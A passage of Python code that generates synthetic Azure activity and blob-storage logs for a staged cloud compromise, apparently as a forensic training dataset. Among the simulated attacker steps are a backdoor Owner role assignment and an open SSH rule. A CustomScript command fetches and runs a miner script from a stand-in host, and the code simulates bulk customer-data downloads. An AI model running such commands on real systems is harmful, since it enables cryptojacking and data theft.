    nic_id = rid(rg_nic, f"Microsoft.Network/networkInterfaces/{name}-nic")
    image = {
        "publisher": "canonical",
        "offer": "0001-com-ubuntu-server-jammy",
        "sku": "22_04-lts-gen2",
        "version": "latest",
    }
    linux = {
        "disablePasswordAuthentication": True,
        "ssh": {"publicKeys": [{"path": "/home/azureuser/.ssh/authorized_keys", "keyData": key}]},
    }
    request = {
        "location": location,
        "properties": {
            "hardwareProfile": {"vmSize": size},
            "storageProfile": {
                "osDisk": {
                    "createOption": "fromImage",
                    "managedDisk": {"storageAccountType": "Premium_LRS"},
                    "deleteOption": "Delete",
                },
                "imageReference": image,
            },
            "networkProfile": {"networkInterfaces": [{"id": nic_id, "properties": {"deleteOption": "Detach"}}]},
            "osProfile": {"computerName": name, "adminUsername": "azureuser", "linuxConfiguration": linux},
            "diagnosticsProfile": {"bootDiagnostics": {"enabled": True}},
        },
    }
    response = {
        "name": name,
        "id": vm_id,
        "type": "Microsoft.Compute/virtualMachines",
        "location": location,
        "properties": {
            "vmId": rguid(rng),
            "hardwareProfile": {"vmSize": size},
            "storageProfile": {
                "imageReference": dict(image, exactVersion="22.04.202403010"),
                "osDisk": {
                    "osType": "Linux",
                    "name": f"{name}_OsDisk_1_{hexstr(rng, 32)}",
                    "createOption": "FromImage",
                    "caching": "ReadWrite",
                    "managedDisk": {"storageAccountType": "Premium_LRS"},
                    "deleteOption": "Delete",
                    "diskSizeGB": 30,
                },
                "dataDisks": [],
            },
            "osProfile": {
                "computerName": name,
                "adminUsername": "azureuser",
                "linuxConfiguration": dict(linux, provisionVMAgent=True,
                                           patchSettings={"patchMode": "ImageDefault",
                                                          "assessmentMode": "ImageDefault"}),
                "secrets": [],
                "allowExtensionOperations": True,
                "requireGuestProvisionSignal": True,
            },
            "networkProfile": {"networkInterfaces": [{"id": nic_id, "properties": {"deleteOption": "Detach"}}]},
            "diagnosticsProfile": {"bootDiagnostics": {"enabled": True}},
            "provisioningState": "Creating",
            "timeCreated": iso7_offset(created),
        },
    }
    return request, response


def nsg_rule_bodies(rng, *, rg: str, nsg: str, rule: str, direction: str, port: str,
                    priority: int, dest: str) -> tuple[dict, dict]:
    props = {
        "protocol": "Tcp",
        "sourcePortRange": "*",
        "destinationPortRange": port,
        "sourceAddressPrefix": "*",
        "destinationAddressPrefix": dest,
        "access": "Allow",
        "priority": priority,
        "direction": direction,
        "sourcePortRanges": [],
        "destinationPortRanges": [],
        "sourceAddressPrefixes": [],
        "destinationAddressPrefixes": [],
    }
    response = {
        "name": rule,
        "id": rid(rg, f"Microsoft.Network/networkSecurityGroups/{nsg}/securityRules/{rule}"),
        "etag": f'W/"{rguid(rng)}"',
        "type": "Microsoft.Network/networkSecurityGroups/securityRules",
        "properties": dict({"provisioningState": "Updating"}, **props),
    }
    return {"properties": props}, response


NSG_BRZ = "Microsoft.Network/networkSecurityGroups/nsg-brz-01"


def build_activity() -> list[dict]:
    rng = random.Random(20240321_2)
    sub_scope = f"/subscriptions/{SUB}"
    rows: list[dict] = []

    # Sessions. The attacker's token comes from the 03:12:40 sign-in (password only).
    attacker = Session(ADMIN.upn, ATTACKER_IP,
                       user_claims(rng, ADMIN, ATTACKER_IP, unix(parse("2024-03-21T03:07:40Z")),
                                   "pwd", f"{GLOBAL_ADMIN_WID},{MEMBER_WID}"),
                       "Owner", OWNER_ROLE, sub_scope)
    admin_office = Session(ADMIN.upn, "10.0.1.10",
                           user_claims(rng, ADMIN, "10.0.1.10", unix(parse("2024-03-20T17:25:12Z")),
                                       "pwd,mfa", f"{GLOBAL_ADMIN_WID},{MEMBER_WID}"),
                           "Owner", OWNER_ROLE, sub_scope)
    patel_1 = Session(MPATEL.upn, "203.0.113.11",
                      user_claims(rng, MPATEL, "203.0.113.11", unix(parse("2024-03-20T16:02:51Z")),
                                  "pwd", MEMBER_WID),
                      "Website Contributor", WEBSITE_CONTRIBUTOR_ROLE, f"{sub_scope}/resourceGroups/rg-web")
    patel_2 = Session(MPATEL.upn, "203.0.113.11",
                      user_claims(rng, MPATEL, "203.0.113.11", unix(parse("2024-03-21T08:25:09Z")),
                                  "pwd", MEMBER_WID),
                      "Website Contributor", WEBSITE_CONTRIBUTOR_ROLE, f"{sub_scope}/resourceGroups/rg-web")
    pipeline = Session(PIPELINE_SP_OID, "", sp_claims(rng, unix(parse("2024-03-21T05:59:31Z"))),
                       "Contributor", CONTRIBUTOR_ROLE, f"{sub_scope}/resourceGroups/rg-web",
                       principal_type="ServicePrincipal")
    soc = Session(SOCLEAD.upn, "203.0.113.20",
                  user_claims(rng, SOCLEAD, "203.0.113.20", unix(parse("2024-03-21T09:35:26Z")),
                              "pwd,mfa", MEMBER_WID),
                  "Owner", OWNER_ROLE, sub_scope)
    soc_later = Session(SOCLEAD.upn, "203.0.113.20",
                        user_claims(rng, SOCLEAD, "203.0.113.20", unix(parse("2024-03-23T01:21:48Z")),
                                    "pwd,mfa", MEMBER_WID),
                        "Owner", OWNER_ROLE, sub_scope)

    def op(s: Session, start: str, dur: float, **kw) -> None:
        """One operation whose Success/Failure row follows `dur` (+ up to 1) seconds later."""
        t0 = at(start, rng)
        rows.extend(arm_operation(rng, s, start=t0, end=t0 + secs(dur + rng.random()), **kw))

    # --- benign, before the attack -------------------------------------------------------------
    site_id = rid("rg-web", "Microsoft.Web/sites/app-northgate-portal")
    site_req = {
        "location": "UK South",
        "properties": {
            "serverFarmId": rid("rg-web", "Microsoft.Web/serverfarms/asp-northgate-web"),
            "httpsOnly": True,
            "siteConfig": {"linuxFxVersion": "DOTNETCORE|8.0", "alwaysOn": True, "ftpsState": "Disabled",
                           "minTlsVersion": "1.2", "appSettings": "******"},
        },
        "tags": {"owner": "web-team", "env": "prod"},
    }
    site_resp = {
        "id": site_id,
        "name": "app-northgate-portal",
        "type": "Microsoft.Web/sites",
        "kind": "app,linux",
        "location": "UK South",
        "tags": {"owner": "web-team", "env": "prod"},
        "properties": {
            "name": "app-northgate-portal",
            "state": "Running",
            "hostNames": ["app-northgate-portal.azurewebsites.net"],
            "webSpace": "rg-web-UKSouthwebspace-Linux",
            "selfLink": "https://waws-prod-ln1-047.api.azurewebsites.windows.net:454/subscriptions/"
                        f"{SUB}/webspaces/rg-web-UKSouthwebspace-Linux/sites/app-northgate-portal",
            "repositorySiteName": "app-northgate-portal",
            "usageState": "Normal",
            "enabled": True,
            "httpsOnly": True,
            "defaultHostName": "app-northgate-portal.azurewebsites.net",
            "resourceGroup": "rg-web",
        },
    }
    op(patel_1, "2024-03-20T16:40:00Z", 3.2, op="Microsoft.Web/sites/write",
       display="Create or Update Web App", resource_id=site_id, rg_upper="RG-WEB",
       resource="app-northgate-portal", requestbody=site_req, responsebody=site_resp, substatus="OK")

    build_key = ssh_key(rng, "buildadmin@NGE-ADM-WS01")
    t0 = at("2024-03-20T17:35:00Z", rng)
    req, resp = vm_bodies(rng, rg="rg-production", rg_nic="rg-production", name="vm-build-02",
                          location="uksouth", size="Standard_D4s_v5", key=build_key,
                          created=t0 + secs(1.3))
    rows.extend(arm_operation(rng, admin_office, start=t0, end=t0 + secs(6.4 + rng.random()),
                              op="Microsoft.Compute/virtualMachines/write",
                              display="Create or Update Virtual Machine",
                              resource_id=rid("rg-production", "Microsoft.Compute/virtualMachines/vm-build-02"),
                              rg_upper="RG-PRODUCTION", resource="vm-build-02", requestbody=req,
                              responsebody=resp, substatus="Created"))

    # --- the attack (admin@ from 198.51.100.77) ---------------------------------------------------
    ra_id = f"{sub_scope}/providers/Microsoft.Authorization/roleAssignments/{ROLE_ASSIGNMENT}"
    owner_def = f"{sub_scope}/providers/Microsoft.Authorization/roleDefinitions/{OWNER_ROLE}"
    t0 = at("2024-03-21T03:14:10Z", rng)
    t1 = t0 + secs(1.4 + rng.random())
    ra_req = {
        "Id": ROLE_ASSIGNMENT,
        "Properties": {
            "PrincipalId": BACKDOOR_PRINCIPAL,
            "PrincipalType": "User",
            "RoleDefinitionId": owner_def,
            "Scope": sub_scope,
            "Condition": None,
            "ConditionVersion": None,
        },
    }
    ra_props = {
        "roleDefinitionId": owner_def,
        "principalId": BACKDOOR_PRINCIPAL,
        "principalType": "User",
        "scope": sub_scope,
        "condition": None,
        "conditionVersion": None,
        "createdOn": iso7(t0 + secs(0.9)),
        "updatedOn": iso7(t0 + secs(0.9)),
        "createdBy": None,
        "updatedBy": ADMIN.oid,
        "delegatedManagedIdentityResourceId": None,
        "description": None,
    }
    ra_resp = {"properties": ra_props, "id": ra_id, "type": "Microsoft.Authorization/roleAssignments",
               "name": ROLE_ASSIGNMENT}
    rows.extend(arm_operation(rng, attacker, start=t0, end=t1,
                              op="Microsoft.Authorization/roleAssignments/write",
                              display="Create role assignment", resource_id=ra_id, rg_upper="",
                              resource=ROLE_ASSIGNMENT, requestbody=ra_req, responsebody=ra_resp,
                              substatus="Created"))

    attacker_key = ssh_key(rng, "kali@kali")
    t0 = at("2024-03-21T03:16:00Z", rng)
    t1 = at("2024-03-21T03:16:40Z", rng)
    req, resp = vm_bodies(rng, rg="rg-brazil-temp", rg_nic="RG-BRAZIL-TEMP", name="vm-brz-01",
                          location="brazilsouth", size="Standard_NC24ads_A100_v4", key=attacker_key,
                          created=t0 + secs(2.2))
    vm_brz = rid("rg-brazil-temp", "Microsoft.Compute/virtualMachines/vm-brz-01")
    rows.extend(arm_operation(rng, attacker, start=t0, end=t1,
                              op="Microsoft.Compute/virtualMachines/write",
                              display="Create or Update Virtual Machine", resource_id=vm_brz,
                              rg_upper="RG-BRAZIL-TEMP", resource="vm-brz-01", requestbody=req,
                              responsebody=resp, substatus="Created"))
    VM_WRITE_TIMES["start"], VM_WRITE_TIMES["end"] = t0, t1

    pip_id = rid("rg-brazil-temp", "Microsoft.Network/publicIPAddresses/pip-brz-01")
    pip_req = {
        "location": "brazilsouth",
        "sku": {"name": "Standard", "tier": "Regional"},
        "properties": {"publicIPAllocationMethod": "Static", "publicIPAddressVersion": "IPv4",
                       "idleTimeoutInMinutes": 4},
    }
    pip_resp = {
        "name": "pip-brz-01",
        "id": pip_id,
        "etag": f'W/"{rguid(rng)}"',
        "location": "brazilsouth",
        "properties": {"provisioningState": "Updating", "resourceGuid": rguid(rng),
                       "publicIPAddressVersion": "IPv4", "publicIPAllocationMethod": "Static",
                       "idleTimeoutInMinutes": 4, "ipTags": []},
        "type": "Microsoft.Network/publicIPAddresses",
        "sku": {"name": "Standard", "tier": "Regional"},
    }
    op(attacker, "2024-03-21T03:17:05Z", 2.6, op="Microsoft.Network/publicIPAddresses/write",
       display="Create or Update Public Ip Address", resource_id=pip_id, rg_upper="RG-BRAZIL-TEMP",
       resource="pip-brz-01", requestbody=pip_req, responsebody=pip_resp, substatus="Created")

    req, resp = nsg_rule_bodies(rng, rg="rg-brazil-temp", nsg="nsg-brz-01", rule="allow-ssh-any",
                                direction="Inbound", port="22", priority=100, dest="*")
    op(attacker, "2024-03-21T03:18:20Z", 2.1, op="Microsoft.Network/networkSecurityGroups/securityRules/write",
       display="Create or Update Security Rule",
       resource_id=rid("rg-brazil-temp", f"{NSG_BRZ}/securityRules/allow-ssh-any"),
       rg_upper="RG-BRAZIL-TEMP", resource="nsg-brz-01/allow-ssh-any", requestbody=req,
       responsebody=resp, substatus="Created")

    # Attacker-controlled text: shell, markdown, template and typesetting metacharacters.
    command = (
        'bash -c "curl -fsSL http://198.51.100.77:8080/x.sh -o /tmp/.x && chmod +x /tmp/.x && '
        'nohup /tmp/.x -o {{POOL}}:3333 -u $WALLET --cpu-max-threads-hint=* >/dev/null 2>&1 &" '
        "# *setup* [ok] <done> @ops"
    )
    ext_id = rid("rg-brazil-temp", "Microsoft.Compute/virtualMachines/vm-brz-01/extensions/CustomScript")
    ext_settings = {"fileUris": ["http://198.51.100.77:8080/x.sh"], "commandToExecute": command}
    ext_req = {
        "location": "brazilsouth",
        "properties": {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
                       "typeHandlerVersion": "2.1", "autoUpgradeMinorVersion": True,
                       "settings": ext_settings},
    }
    ext_resp = {
        "name": "CustomScript",
        "id": ext_id,
        "type": "Microsoft.Compute/virtualMachines/extensions",
        "location": "brazilsouth",
        "properties": {"autoUpgradeMinorVersion": True, "provisioningState": "Creating",
                       "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
                       "typeHandlerVersion": "2.1", "settings": ext_settings},
    }
    op(attacker, "2024-03-21T03:20:30Z", 4.3, op="Microsoft.Compute/virtualMachines/extensions/write",
       display="Create or Update Virtual Machine Extension", resource_id=ext_id,
       rg_upper="RG-BRAZIL-TEMP", resource="vm-brz-01/CustomScript", requestbody=ext_req,
       responsebody=ext_resp, substatus="Created")

    op(attacker, "2024-03-21T03:22:02Z", 0.2, op="Microsoft.Storage/storageAccounts/listKeys/action",
       display="List Storage Account Keys", resource_id=STORAGE_ID, rg_upper="RG-PRODUCTION",
       resource=STORAGE_ACCOUNT, substatus="OK")

    req, resp = nsg_rule_bodies(rng, rg="rg-brazil-temp", nsg="nsg-brz-01", rule="allow-3333-out",
                                direction="Outbound", port="3333", priority=110, dest="Internet")
    op(attacker, "2024-03-21T03:40:15Z", 1.9, op="Microsoft.Network/networkSecurityGroups/securityRules/write",
       display="Create or Update Security Rule",
       resource_id=rid("rg-brazil-temp", f"{NSG_BRZ}/securityRules/allow-3333-out"),
       rg_upper="RG-BRAZIL-TEMP", resource="nsg-brz-01/allow-3333-out", requestbody=req,
       responsebody=resp, substatus="Created")

    # --- benign, after the attack -------------------------------------------------------------
    dep_name = "app-northgate-portal-20240321.1"
    dep_id = rid("rg-web", f"Microsoft.Resources/deployments/{dep_name}")
    dep_req = {
        "properties": {
            "mode": "Incremental",
            "templateLink": None,
            "parameters": {"siteName": {"value": "app-northgate-portal"},
                           "location": {"value": "uksouth"},
                           "skuName": {"value": "P1v3"}},
            "debugSetting": None,
        }
    }
    dep_resp = {
        "id": dep_id,
        "name": dep_name,
        "type": "Microsoft.Resources/deployments",
        "properties": {"templateHash": str(rng.getrandbits(63)), "parameters": dep_req["properties"]["parameters"],
                       "mode": "Incremental", "provisioningState": "Accepted",
                       "timestamp": None, "duration": "PT0.0005316S",
                       "correlationId": None, "providers": [], "dependencies": []},
    }
    op(pipeline, "2024-03-21T06:00:00Z", 1.1, op="Microsoft.Resources/deployments/write",
       display="Create Deployment", resource_id=dep_id, rg_upper="RG-WEB", resource=dep_name,
       requestbody=dep_req, responsebody=dep_resp, substatus="Created")

    conflict = {
        "Code": "Conflict",
        "Message": "Cannot modify this site because another operation is in progress. Details: Id: "
                   f"{rguid(rng)}, OperationName: Update, CreatedTime: 3/21/2024 8:44:52 AM, "
                   f"WebSystemName: WebSites, SubscriptionName: {SUB_NAME}, "
                   "WebspaceName: rg-web-UKSouthwebspace-Linux, SiteName: app-northgate-portal, "
                   "SlotName: , ServerFarmName: , GeoOperationId: (null)",
        "Target": None,
        "Details": [{"Message": "Cannot modify this site because another operation is in progress."},
                    {"Code": "Conflict"},
                    {"ErrorEntity": {"ExtendedCode": "59203", "MessageTemplate":
                                     "Cannot modify this site because another operation is in progress. Details: {0}",
                                     "Code": "Conflict"}}],
        "Innererror": None,
    }
    site_req_2 = {"properties": {"siteConfig": {"linuxFxVersion": "DOTNETCORE|8.0", "http20Enabled": True}}}
    op(patel_2, "2024-03-21T08:45:00Z", 1.5, op="Microsoft.Web/sites/write",
       display="Create or Update Web App", resource_id=site_id, rg_upper="RG-WEB",
       resource="app-northgate-portal", requestbody=site_req_2, end_status="Failure",
       substatus="Conflict", status_message=conflict)

    for when, key_name in (("2024-03-21T09:50:10Z", "key1"), ("2024-03-21T09:51:00Z", "key2")):
        op(soc, when, 0.6, op="Microsoft.Storage/storageAccounts/regenerateKey/action",
           display="Regenerate Storage Account Keys", resource_id=STORAGE_ID, rg_upper="RG-PRODUCTION",
           resource=STORAGE_ACCOUNT, requestbody={"keyName": key_name}, substatus="OK")

    op(soc, "2024-03-21T09:55:00Z", 0.8, op="Microsoft.Authorization/roleAssignments/delete",
       display="Delete role assignment", resource_id=ra_id, rg_upper="", resource=ROLE_ASSIGNMENT,
       responsebody=ra_resp, substatus="OK")

    op(soc_later, "2024-03-23T01:34:00Z", 38.0, op="Microsoft.Compute/virtualMachines/delete",
       display="Delete Virtual Machine", resource_id=vm_brz, rg_upper="RG-BRAZIL-TEMP",
       resource="vm-brz-01", substatus="OK")

    rows.sort(key=lambda r: SORT_KEYS[id(r)])
    return rows


# ----------------------------------------------------------------------------------------------
# 3. StorageBlobLogs
# ----------------------------------------------------------------------------------------------

STORAGE_COLUMNS = [
    "TenantId", "SourceSystem", "TimeGenerated [UTC]", "AccountName", "Location", "Protocol",
    "OperationName", "AuthenticationType", "StatusCode", "StatusText", "DurationMs",
    "ServerLatencyMs", "Uri", "CallerIpAddress", "CorrelationId", "SchemaVersion",
    "OperationVersion", "AuthenticationHash", "RequesterObjectId", "RequesterTenantId",
    "RequesterAppId", "RequesterAudience", "RequesterTokenIssuer", "RequesterUpn",
    "AuthorizationDetails", "UserAgentHeader", "ReferrerHeader", "ClientRequestId", "Etag",
    "ServiceType", "ObjectKey", "OperationCount", "RequestHeaderSize", "RequestBodySize",
    "ResponseHeaderSize", "ResponseBodySize", "RequestMd5", "ResponseMd5",
    "LastModifiedTime [UTC]", "ConditionsUsed", "ContentLengthHeader", "Category", "TlsVersion",
    "SasExpiryStatus", "MetricResponseType", "SourceUri", "DestinationUri", "AccessTier",
    "SourceAccessTier", "RehydratePriority", "Type", "_ResourceId",
]

ATTACKER_STORAGE_UA = "azsdk-python-storage-blob/12.19.0 Python/3.11.4 (Linux-6.2.0-1019-azure-x86_64-with-glibc2.35)"
CRM_UA = "azsdk-net-Storage.Blobs/12.19.1 (.NET 6.0.27; Microsoft Windows 10.0.20348)"
BACKUP_UA = "azsdk-net-Storage.Blobs/12.19.1 (.NET 8.0.2; Ubuntu 22.04.4 LTS)"
STORAGE_RESOURCE_ID = (STORAGE_ID + "/blobServices/default").lower()


def etag_for(t: int) -> str:
    """Blob ETags are 0x + the hex .NET ticks of the last write, quoted."""
    return f'"0x{t + TICKS_1970:X}"'


class Blob:
    def __init__(self, container: str, name: str, size: int, modified: int):
        self.container = container
        self.name = name
        self.size = size
        self.modified = modified
        self.etag = etag_for(modified)
        self.key = f"/{STORAGE_ACCOUNT}/{container}/{name}"
        self.uri = f"https://{STORAGE_ACCOUNT}.blob.core.windows.net:443/{container}/{name}"


def server_request_id(rng: random.Random) -> str:
    return f"{hexstr(rng, 8)}-{hexstr(rng, 4)}-{hexstr(rng, 4)}-{hexstr(rng, 4)}-{hexstr(rng, 6)}000000"


class Uuid1:
    """Python SDK client request ids are uuid1: time-based, same node for one process."""

    def __init__(self, rng: random.Random):
        self.rng = rng
        self.node = hexstr(rng, 12)
        self.seq = f"{0x8000 | rng.getrandbits(14):04x}"  # RFC 4122 variant bits

    def make(self, t: int) -> str:
        # uuid1 timestamp: 100 ns intervals since 1582-10-15.
        ts = t + 0x01B21DD213814000 + self.rng.randrange(0, 900_000)
        low = ts & 0xFFFFFFFF
        mid = (ts >> 32) & 0xFFFF
        hi = ((ts >> 48) & 0x0FFF) | 0x1000
        return f"{low:08x}-{mid:04x}-{hi:04x}-{self.seq}-{self.node}"


def storage_row(rng, *, t: int, op: str, auth: str, code: int, text: str, duration: int,
                latency: int, uri: str, ip_port: str, key: str, ua: str, client_req: str,
                response_size: int, request_size: int = 0, etag: str = "", modified: int | None = None,
                conditions: str = "", category: str = "StorageRead", oauth: dict | None = None,
                auth_hash: str = "") -> dict:
    row = {
        "TenantId": WORKSPACE_ID,
        "SourceSystem": "Azure",
        "TimeGenerated [UTC]": la(t),
        "AccountName": STORAGE_ACCOUNT,
        "Location": "uksouth",
        "Protocol": "HTTPS",
        "OperationName": op,
        "AuthenticationType": auth,
        "StatusCode": str(code),
        "StatusText": text,
        "DurationMs": str(duration),
        "ServerLatencyMs": str(latency),
        "Uri": uri,
        "CallerIpAddress": ip_port,
        "CorrelationId": server_request_id(rng),
        "SchemaVersion": "1.0",
        "OperationVersion": "2023-11-03",
        "AuthenticationHash": auth_hash,
        "UserAgentHeader": ua,
        "ClientRequestId": client_req,
        "Etag": etag,
        "ServiceType": "blob",
        "ObjectKey": key,
        "OperationCount": "0",
        "RequestHeaderSize": str(rng.randrange(480, 640) + (900 if oauth else 0)),
        "RequestBodySize": str(request_size),
        "ResponseHeaderSize": str(rng.randrange(380, 560) if code < 300 else rng.randrange(250, 300)),
        "ResponseBodySize": str(response_size),
        "LastModifiedTime [UTC]": la(modified) if modified is not None else "",
        "ConditionsUsed": conditions,
        "ContentLengthHeader": str(request_size),
        "Category": category,
        "TlsVersion": "TLS 1.2",
        "MetricResponseType": "Success" if code < 400 else "ClientOtherError",
        "Type": "StorageBlobLogs",
        "_ResourceId": STORAGE_RESOURCE_ID,
    }
    if oauth:
        row.update({
            "RequesterObjectId": oauth["oid"],
            "RequesterTenantId": TENANT,
            "RequesterAppId": oauth["appid"],
            "RequesterAudience": "https://storage.azure.com/",
            "RequesterTokenIssuer": f"https://sts.windows.net/{TENANT}/",
            "AuthorizationDetails": compact([{
                "action": oauth["action"],
                "roleAssignmentId": oauth["ra"],
                "roleDefinitionId": oauth["role"],
                "principals": [{"id": oauth["oid"], "type": "ServicePrincipal"}],
                "denyAssignmentId": "",
                "type": "",
                "result": "Granted",
                "reason": "Policy",
            }]),
        })
    SORT_KEYS[id(row)] = t
    return row


def split_total(rng: random.Random, raw: list[float], total: int, low: int, high: int) -> list[int]:
    """Scale raw weights to integers in [low, high] that sum exactly to total. The rounding
    residue is spread a few bytes at a time over random items, so no item looks adjusted."""
    s = sum(raw)
    sizes = [max(low, min(high, int(x * total / s))) for x in raw]
    diff = total - sum(sizes)
    while diff != 0:
        i = rng.randrange(len(sizes))
        step = max(1, min(abs(diff), abs(diff) // len(sizes) + rng.randrange(1, 64)))
        step = step if diff > 0 else -step
        new = sizes[i] + step
        if low <= new <= high:
            sizes[i] = new
            diff -= step
    return sizes


def build_storage() -> tuple[list[dict], dict]:
    rng = random.Random(2024)
    rows: list[dict] = []
    facts: dict = {}
    day = 24 * 3600

    # --- catalogue of customer-data blobs ------------------------------------------------------
    names = [f"exports/2023/customers-{i:05d}.parquet" for i in range(1, 253)]
    names += [f"exports/2024/customers-{i:05d}.parquet" for i in range(1, 561)]
    assert len(names) == 812
    big_idx = set(rng.sample(range(len(names)), 35))  # read in two ranged GETs
    big_sizes = [rng.randrange(MIB32 + 400_000, MIB32 + MIB4 - 50_000) for _ in range(35)]
    small_total = TOTAL_CUSTOMER_BYTES - sum(big_sizes)
    small_raw = [rng.lognormvariate(0, 0.55) for _ in range(812 - 35)]
    small_sizes = split_total(rng, small_raw, small_total, 180_000, MIB32 - 1_000_000)
    catalogue: list[Blob] = []
    bi = si = 0
    for i, n in enumerate(names):
        year = 2023 if "/2023/" in n else 2024
        if year == 2023:
            modified = parse("2023-06-01T00:00:00Z") + secs(rng.uniform(0, 200 * day))
        else:
            modified = parse("2024-01-02T00:00:00Z") + secs(rng.uniform(0, 76 * day))
        if i in big_idx:
            size = big_sizes[bi]
            bi += 1
        else:
            size = small_sizes[si]
            si += 1
        catalogue.append(Blob("customer-data", n, size, modified))
    crm_only = [Blob("customer-data", f"crm-sync/accounts-delta-{d:%Y%m%d}-{h:02d}00.json",
                     rng.randrange(40_000, 900_000),
                     parse(f"{d:%Y-%m-%d}T{h:02d}:00:00Z") + secs(rng.uniform(5, 50)))
                for d in (datetime(2024, 3, 19), datetime(2024, 3, 20)) for h in (6, 12, 18)]

    # --- finance blobs ----------------------------------------------------------------------------
    fin_names = [f"fy2023/q4-board-pack-{i:02d}.xlsx" for i in range(1, 13)]
    fin_names += [f"fy2023/management-accounts-2023-{m:02d}.xlsx" for m in (10, 11, 12)]
    fin_names += ["fy2023/audit/draft-statutory-accounts.pdf", "fy2023/audit/auditor-findings.pdf",
                  "fy2024/budget-fy2024-v3.xlsx", "fy2024/forecast-q1-2024.xlsx",
                  "fy2024/payroll-summary-2024-01.xlsx", "fy2024/payroll-summary-2024-02.xlsx",
                  "treasury/bank-facilities-2024.pdf", "treasury/cashflow-13wk-2024-03-15.xlsx"]
    assert len(fin_names) == 23
    fin_sizes = split_total(rng, [rng.lognormvariate(0, 0.7) for _ in fin_names],
                            TOTAL_FINANCE_BYTES, 350_000, MIB32 - 1)
    finance = [Blob("financial-reports", n, s,
                    parse("2024-01-15T00:00:00Z") + secs(rng.uniform(0, 60 * day)))
               for n, s in zip(fin_names, fin_sizes)]

    key1_hash = f"key1({hashlib.sha256(b'northgate-proddata-key1').hexdigest().upper()})"
    uuid1 = Uuid1(rng)

    # --- attacker: ListBlobs ------------------------------------------------------------------
    port = rng.randrange(40000, 52000)
    t = at("2024-03-21T03:22:10Z", rng)
    listings = {
        "customer-data": ["", "exports%2F", "exports%2F2023%2F", "exports%2F2024%2F"],
        "financial-reports": ["", "fy2023%2F", "fy2024%2F", "treasury%2F"],
        "backups": ["", "sql%2F", "sql%2Fproddb01%2F", "config%2F"],
    }
    list_times = []
    for ci, (container, prefixes) in enumerate(listings.items()):
        if ci:
            port += rng.randrange(2, 9)  # a new client per container
        for prefix in prefixes:
            q = "restype=container&comp=list&delimiter=%2F"
            if prefix:
                q += f"&prefix={prefix}"
            dur = rng.randrange(14, 60)
            rows.append(storage_row(
                rng, t=t, op="ListBlobs", auth="AccountKey", code=200, text="Success",
                duration=dur, latency=max(4, dur - rng.randrange(3, 12)),
                uri=f"https://{STORAGE_ACCOUNT}.blob.core.windows.net:443/{container}?{q}",
                ip_port=f"{ATTACKER_IP}:{port}", key=f"/{STORAGE_ACCOUNT}/{container}",
                ua=ATTACKER_STORAGE_UA, client_req=uuid1.make(t),
                response_size=rng.randrange(1_400, 9_800), auth_hash=key1_hash))
            list_times.append(t)
            t += secs(rng.uniform(2.4, 4.9))
    assert to_dt(list_times[-1]) <= datetime(2024, 3, 21, 3, 22, 56, tzinfo=timezone.utc)
    facts["list_first"] = list_times[0]

    # --- attacker: bulk GetBlob from customer-data --------------------------------------------
    # Requests as (blob, range start, length, status); listing order, 2023 then 2024.
    reqs = []
    for i, b in enumerate(catalogue):
        if i in big_idx:
            reqs.append((b, 0, MIB32, 206))
            reqs.append((b, MIB32, b.size - MIB32, 206))
        else:
            reqs.append((b, None, b.size, 200))
    assert len(reqs) == 847
    # Sequential schedule: duration ~ size / throughput, then a small gap; scaled to the window.
    raw = []
    for b, start, length, code in reqs:
        mbps = rng.uniform(2.6, 7.5) * 1_000_000
        raw.append((length / mbps + rng.uniform(0.03, 0.09), rng.uniform(0.02, 0.35)))
    window = parse("2024-03-21T03:37:29Z") - parse("2024-03-21T03:24:00Z")
    scale = window / secs(sum(d + g for d, g in raw))
    t = at("2024-03-21T03:24:00Z", rng)
    schedule = []
    for (b, start, length, code), (d, g) in zip(reqs, raw):
        dur = secs(d) * scale
        schedule.append((int(t), int(dur), b, start, length, code))
        t += dur + secs(g) * scale
    # Three requests for blobs that no longer exist, around 03:30.
    missing = ["exports/2024/customers-full-20240301.parquet", "exports/pii/customers-master.csv",
               "exports/2024/customers-00000.parquet"]
    inserts = [parse("2024-03-21T03:29:41Z"), parse("2024-03-21T03:30:07Z"), parse("2024-03-21T03:30:32Z")]
    final = []
    shift = 0
    pending = list(zip(inserts, missing))
    for (ts, dur, b, start, length, code) in schedule:
        ts += shift
        while pending and ts >= pending[0][0] and not start:  # never inside a ranged pair
            _, name = pending.pop(0)
            d404 = secs(rng.uniform(0.012, 0.03))
            final.append((ts, d404, None, name, 0, 404))
            shift += d404 + secs(rng.uniform(0.05, 0.2))
            ts += d404 + secs(rng.uniform(0.05, 0.2))
        final.append((ts, dur, b, start, length, code))
    assert not pending
    port += rng.randrange(3, 12)
    left_on_conn = rng.randrange(25, 110)
    for ts, dur, b, start, length, code in final:
        left_on_conn -= 1
        if left_on_conn <= 0:  # the SDK opens a new connection now and then
            port += rng.randrange(1, 7)
            left_on_conn = rng.randrange(25, 110)
        dur_ms = max(9, dur // 10_000)
        if b is None:  # 404
            rows.append(storage_row(
                rng, t=ts, op="GetBlob", auth="AccountKey", code=404, text="BlobNotFound",
                duration=dur_ms, latency=dur_ms - rng.randrange(1, 4),
                uri=f"https://{STORAGE_ACCOUNT}.blob.core.windows.net:443/customer-data/{start}",
                ip_port=f"{ATTACKER_IP}:{port}", key=f"/{STORAGE_ACCOUNT}/customer-data/{start}",
                ua=ATTACKER_STORAGE_UA, client_req=uuid1.make(ts), response_size=215,
                auth_hash=key1_hash))
            continue
        conditions = ""
        if start is not None and start > 0:
            conditions = f"If-Match={b.etag}"
        rows.append(storage_row(
            rng, t=ts, op="GetBlob", auth="AccountKey", code=code, text="Success",
            duration=dur_ms, latency=rng.randrange(4, 38), uri=b.uri,
            ip_port=f"{ATTACKER_IP}:{port}", key=b.key, ua=ATTACKER_STORAGE_UA,
            client_req=uuid1.make(ts), response_size=length, etag=b.etag, modified=b.modified,
            conditions=conditions, auth_hash=key1_hash))

    # --- attacker: financial-reports ------------------------------------------------------------
    t = at("2024-03-21T03:38:00Z", rng)
    raw = [(b.size / (rng.uniform(3.0, 7.0) * 1_000_000), rng.uniform(0.05, 0.6)) for b in finance]
    scale = secs(48.5) / secs(sum(d + g for d, g in raw[:-1]))
    port += rng.randrange(3, 12)
    for b, (d, g) in zip(finance, raw):
        dur = int(secs(d) * scale)
        rows.append(storage_row(
            rng, t=t, op="GetBlob", auth="AccountKey", code=200, text="Success",
            duration=max(25, dur // 10_000), latency=rng.randrange(4, 30), uri=b.uri,
            ip_port=f"{ATTACKER_IP}:{port}", key=b.key, ua=ATTACKER_STORAGE_UA,
